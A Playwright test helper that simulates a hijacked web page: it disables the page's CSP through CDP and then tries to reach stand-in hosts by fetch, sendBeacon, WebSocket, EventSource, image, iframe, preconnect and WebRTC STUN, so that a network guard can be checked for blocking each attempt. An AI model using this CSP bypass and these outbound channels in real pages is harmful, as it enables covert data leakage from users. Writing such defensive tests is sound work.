import type { Page } from '@playwright/test'

/** Where a page that was taken over tries to go, each by a way of its own, and the guard refuses it. */
export const attackedHosts = ['fetch', 'socket', 'bild', 'signal', 'strom'].map((way) => `${way}.annanplats.test`)

/** Refused before the guard is asked: no page navigates, nor does a frame in it. */
const frameHost = 'ram.annanplats.test'

/** An address of nobody, which needs no name. */
export const attackedAddress = '198.51.100.23'

/**
 * Does what foreign code in a page could do to reach others, when the page's own policy (its CSP) does not hold: that
 * wall is taken away, so that the guard alone stands.
 */
export async function attack(page: Page): Promise<void> {
  const session = await page.context().newCDPSession(page)
  await session.send('Page.setBypassCSP', { enabled: true })
  await page.reload()
  await page.evaluate(
    ([hosts, address, frame]) => {
      const [asked = '', socket = '', picture = '', signal = '', stream = ''] = hosts
      const inside = Object.assign(document.createElement('iframe'), { src: `https://${frame}/` })
      const hint = Object.assign(document.createElement('link'), { rel: 'preconnect', href: `https://${address}/` })
      document.body.append(inside, hint)
      navigator.sendBeacon(`https://${signal}/`, 'hej')
      for (const url of [`https://${asked}/`, `https://${address}/`, `http://${address}/`])
        fetch(url).catch(() => undefined)
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: [`stun:${address}:3478`, `stun:${asked}:3478`] }]
      })
      peer.createDataChannel('a')
      void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
      // Kept, so that nothing ends before it has been tried.
      const attacks = {
        peer,
        image: Object.assign(new Image(), { src: `https://${picture}/a.png` }),
        socket: new WebSocket(`wss://${socket}/`),
        stream: new EventSource(`https://${stream}/`)
      }
      Object.assign(globalThis, { attacks })
    },
    [attackedHosts, attackedAddress, frameHost] as const
  )
  // All addresses at which others could send to this page have been looked for by then.
  await page.waitForFunction(
    () => (Reflect.get(globalThis, 'attacks') as { peer: RTCPeerConnection }).peer.iceGatheringState === 'complete'
  )
}
